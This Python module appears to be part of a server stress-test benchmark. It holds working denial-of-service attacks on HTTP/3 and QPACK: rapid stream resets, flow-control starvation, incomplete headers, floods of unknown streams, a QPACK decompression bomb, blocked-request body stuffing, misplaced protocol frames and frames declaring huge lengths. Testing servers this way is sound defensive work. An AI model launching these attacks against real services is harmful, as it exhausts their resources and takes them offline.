"""The attacks of bench/hostile on HTTP/3 and QPACK. As those over TCP, each does a fixed amount of work and then holds what it
opened."""

import struct

from .quic_peer import COMMON, CONTROL, again, connected, frame, headers, request, variable

ENCODER = b"\x02"
LARGEST = (1 << 62) - 1
DATA, HEADERS, CANCEL_PUSH, SETTINGS, PUSH_PROMISE, GOAWAY, MAX_PUSH_ID, UNKNOWN = 0, 1, 3, 4, 5, 7, 0xd, 0x21
PRIORITY_UPDATE = 0xf0700


def h3_rapid_reset(ports, path):
    """4 connections, requests that are reset at once, 1,000 each or until they are ended"""
    peers = connected(ports["quic"], 4)
    for peer in peers:
        for number in range(1000):
            stream = peer.open(request(path))
            peer.flush()
            peer.quic.reset_stream(stream, 0x10c)
            peer.quic.stop_stream(stream, 0x10c)
            if number % 20 == 19 and not peer.turn(0.001):
                break
    return peers


def h3_window_zero(ports, path):
    """4 connections with 100 requests each and 1,000 bytes of credit for all their answers"""
    peers = connected(ports["quic"], 4, max_stream_data=1000, max_data=1000)
    for peer in peers:
        # What is read gives no further credit.
        peer.quic._local_max_data.used = -(1 << 40)
        for _ in range(100):
            peer.open(request(path), end=True)
        peer.turn(0.1)
    return peers


def h3_begun(ports, path):
    """20 connections with 100 requests each, of whose header sections the last byte never comes"""
    peers = connected(ports["quic"], 20)
    for peer in peers:
        for _ in range(100):
            peer.open(request(path)[:-1])
        peer.turn(0.02)
    return peers


def h3_streams(ports, _path):
    """4 connections, 2,000 unidirectional streams each of a type that nobody knows, or until they are ended"""
    peers = connected(ports["quic"], 4)
    for number in range(2000):
        for peer in peers:
            peer.open(variable(UNKNOWN), unidirectional=True, end=True)
            if number % 20 == 19:
                peer.turn(0.001)
    return peers


def qpack_bomb(ports, _path):
    """4 connections whose requests name one entry of 4 kB 4,000 times, 100 times over"""
    peers = connected(ports["quic"], 4)
    value = b"x" * 3900
    # Capacity 4096; the name `a` and the value as literals.
    entry = b"\x3f\xe1\x1f" + b"\x41a" + b"\x7f" + bytes([0x80 | (len(value) - 127) & 0x7f, (len(value) - 127) >> 7]) + value
    for peer in peers:
        peer.open(ENCODER + entry, unidirectional=True)
        peer.turn(0.02)
        bomb = headers(b"\x02\x00" + COMMON + b"\xc1" + b"\x80" * 4000)
        for number in range(100):
            peer.open(bomb, end=True)
            if number % 10 == 9 and not peer.turn(0.005):
                break
    return peers


def qpack_blocked(ports, _path):
    """4 connections with 16 requests each that wait for entries that never come, and 16 kB of body behind each"""
    peers = connected(ports["quic"], 4)
    body = b"\x00" + struct.pack(">I", 0x80000000 | 16_000) + b"b" * 16_000
    for peer in peers:
        for _ in range(16):
            peer.open(headers(b"\x09\x00" + COMMON + b"\xc1") + body)
        peer.turn(0.1)
    return peers


def control_closed(ports, _path):
    """200 connections, one after another, that close their control stream"""
    return again(ports, lambda peer, _: peer.quic.send_stream_data(2, b"", end_stream=True))


def settings_twice(ports, _path):
    """200 connections, one after another, that send SETTINGS twice"""
    return again(ports, lambda peer, _: peer.quic.send_stream_data(2, frame(SETTINGS, 0)))


def wrong_streams(ports, path):
    """200 connections, one after another, each with a frame on a stream where it may not be, or a stream that may not be"""
    on_control = [frame(DATA, 1, b"x"), frame(HEADERS, 2, b"\0\0"), frame(PUSH_PROMISE, 1, b"\0")]
    on_request = [frame(DATA, 1, b"x"), frame(SETTINGS, 0), frame(CANCEL_PUSH, 1, b"\0"), frame(GOAWAY, 1, b"\0"),
                  frame(MAX_PUSH_ID, 1, b"\0"), frame(PUSH_PROMISE, 1, b"\0")]
    # A second control stream, a push of a client's, a second encoder.
    streams = [CONTROL, b"\x01\x00", ENCODER + b"\x20" + b"\x02"]
    acts = [lambda peer, wrong=wrong: peer.quic.send_stream_data(2, wrong) for wrong in on_control]
    acts += [lambda peer, wrong=wrong: peer.open(wrong) for wrong in on_request]
    acts += [lambda peer, wrong=wrong: peer.open(request(path) + wrong) for wrong in on_request[1:]]
    acts += [lambda peer, wrong=wrong: peer.open(wrong, unidirectional=True) for wrong in streams]
    return again(ports, lambda peer, number: acts[number % len(acts)](peer))


def huge_frames(ports, path):
    """44 connections, each with a frame or a name for the QPACK table of 1 GB or 2^62 - 1 bytes, of which 256 kB come"""
    begun = []
    for length in (1 << 30, LARGEST):
        on_control = [CONTROL + frame(kind, length) for kind in (GOAWAY, PRIORITY_UPDATE, UNKNOWN)]
        on_request = [frame(HEADERS, length), frame(UNKNOWN, length), request(path) + frame(DATA, length),
                      request(path) + frame(HEADERS, length), request(path) + frame(UNKNOWN, length)]
        begun += [(control, None) for control in [b"\x00" + frame(SETTINGS, length), *on_control]]
        begun += [(CONTROL, (first, False)) for first in on_request]
        # A stream that nobody knows, and a name that is inserted into the dynamic table.
        begun += [(CONTROL, (variable(UNKNOWN), True)), (CONTROL, (ENCODER + b"\x3f\xe1\x1f" + b"\x5f\xff\xff\xff\x7f", True))]
    peers = []
    for control, opened in 2 * begun:
        [peer] = connected(ports["quic"], control=control)
        peers.append(peer)
        stream = peer.open(opened[0], unidirectional=opened[1]) if opened else 2
        try:
            for _ in range(16):
                peer.quic.send_stream_data(stream, bytes(16_384))
                if not peer.turn(0.002):
                    break
        except RuntimeError:
            # The server has stopped the stream (STOP_SENDING).
            pass
    return peers


FILE, PAGE = "/50MB", "/page?images=100000&bytes=5000&seed=1"
TABLE = ((h3_rapid_reset, (FILE, PAGE)), (h3_window_zero, (FILE, PAGE)), (h3_begun, (FILE,)), (h3_streams, (FILE,)),
         (qpack_bomb, (FILE,)), (qpack_blocked, (FILE,)), (control_closed, (FILE,)), (settings_twice, (FILE,)),
         (wrong_streams, (FILE,)), (huge_frames, (FILE,)))
